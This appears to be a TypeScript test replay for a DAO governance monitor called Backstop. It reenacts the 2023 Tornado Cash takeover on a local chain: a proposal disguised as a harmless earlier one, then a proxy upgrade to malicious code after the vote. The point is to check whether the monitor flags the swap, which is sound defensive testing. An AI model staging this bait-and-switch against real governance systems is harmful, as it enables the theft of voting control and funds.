/**
 * tornado-2023 (2023-05-20): a proposal that looked like an earlier, harmless one passed; before
 * it was executed the attacker replaced the code at its target and, executed, the new code gave
 * the attacker 1.2M votes and control of the governance.
 *
 * Staged with an upgradeable proxy (since Cancun, SELFDESTRUCT + CREATE2 can no longer replace
 * code across transactions; a proxy's admin still can): the target is a proxy whose admin is
 * the attacker, pointing at a harmless payload. The proposal passes and is queued; then the
 * admin swaps the implementation for a malicious one. Backstop must flag the unknown, mutable
 * target from the start and, once swapped, the changed code — before execution. Executed, the
 * malicious code runs.
 */

import { createPublicClient, createWalletClient, encodeFunctionData, http, parseAbi, type Abi, type Address, type Hex, type TransactionReceipt } from "viem";
import { foundry } from "viem/chains";
import type { Alert } from "../engine/index.ts";
import { harmlessPayloadAbi, maliciousPayloadAbi, payloadProxyAbi } from "../lib/contracts/abis.ts";
import { harmlessPayloadBytecode, maliciousPayloadBytecode, payloadProxyBytecode } from "../lib/contracts/bytecode.ts";
import type { Replay } from "./replay.ts";

export interface TornadoResult {
  proposalId: bigint;
  target: Address;
  flagsBeforeSwap: Alert[];
  flagsAfterSwap: Alert[];
  stateBeforeExecution: string;
  executionReceipt: TransactionReceipt;
}

/** The replay's contracts on a chain where `attacker` can send (an unlocked or impersonated account). */
export interface TornadoPayloads {
  /** The proposal's target: a proxy whose admin is the attacker, pointing at the harmless payload. */
  target: Address;
  harmless: Address;
  malicious: Address;
  /** The proposal's only call: run() on the target. */
  call: { target: Address; value: bigint; calldata: Hex };
}

/** Deploys the harmless payload, the malicious one and the proxy the proposal targets, from `attacker`. */
export async function deployTornadoPayloads(rpcUrl: string, attacker: Address): Promise<TornadoPayloads> {
  const transport = http(rpcUrl);
  const client = createPublicClient({ transport });
  const wallet = createWalletClient({ account: attacker, chain: foundry, transport });
  const deploy = async (abi: Abi, bytecode: Hex, args: readonly unknown[] = []) =>
    (await client.waitForTransactionReceipt({ hash: await wallet.deployContract({ abi, bytecode, args, gas: 5_000_000n }) })).contractAddress!;
  const harmless = await deploy(harmlessPayloadAbi, harmlessPayloadBytecode.bytecode);
  const malicious = await deploy(maliciousPayloadAbi, maliciousPayloadBytecode.bytecode);
  const target = await deploy(payloadProxyAbi, payloadProxyBytecode.bytecode, [harmless, attacker]);
  return { target, harmless, malicious, call: { target, value: 0n, calldata: encodeFunctionData({ abi: harmlessPayloadAbi, functionName: "run" }) } };
}

/** The swap, after the vote: the proxy's admin points it at the malicious payload. */
export async function swapTornadoPayload(rpcUrl: string, attacker: Address, { target, malicious }: Pick<TornadoPayloads, "target" | "malicious">): Promise<TransactionReceipt> {
  const transport = http(rpcUrl);
  const hash = await createWalletClient({ account: attacker, chain: foundry, transport }).writeContract({ address: target, abi: parseAbi(["function upgradeTo(address implementation)"]), functionName: "upgradeTo", args: [malicious] });
  return createPublicClient({ transport }).waitForTransactionReceipt({ hash });
}

/** The proposal's description: it reads like the earlier, harmless one. */
export const tornadoDescription = (target: Address) => `# Record a payload run\n\nCalls run() on the payload at ${target.toLowerCase()}: it only records that it ran, as the last one did.`;

export const tornado2023: Replay<TornadoResult> = {
  name: "tornado-2023",
  date: "2023-05-20",
  summary: "A proposal target's code changes between the vote and the execution; Backstop flags the mutable target from the start and the changed code before execution.",
  async run(h, log) {
    const { testClient } = h.fixture;
    const attacker = await h.actor("tornado-attacker");
    await h.giveVotes(attacker, 5_000_000);
    await h.mine(5);
    const payloads = await deployTornadoPayloads(h.rpcUrl, attacker);
    const { target } = payloads;
    const proposalId = await h.propose(attacker, [payloads.call], tornadoDescription(target));
    await h.mine(2);
    await h.vote(attacker, proposalId, "For");
    await h.mine(60);
    await h.queue(proposalId);
    const flagsBeforeSwap = await h.proposalFlags(proposalId);
    log(`queued; flagged: ${flagsBeforeSwap.map((f) => f.id.replace(/^gov-\d+-/, "")).join(", ")}`);

    await swapTornadoPayload(h.rpcUrl, attacker, payloads);
    const flagsAfterSwap = await h.proposalFlags(proposalId);
    log(`after the swap: ${flagsAfterSwap.map((f) => f.id.replace(/^gov-\d+-/, "")).join(", ")}`);
    const stateBeforeExecution = await h.proposalState(proposalId);
    await testClient.increaseTime({ seconds: 3601 });
    await h.mine(1);
    const executionReceipt = await h.execute(proposalId);
    return { proposalId, target, flagsBeforeSwap, flagsAfterSwap, stateBeforeExecution, executionReceipt };
  },
};
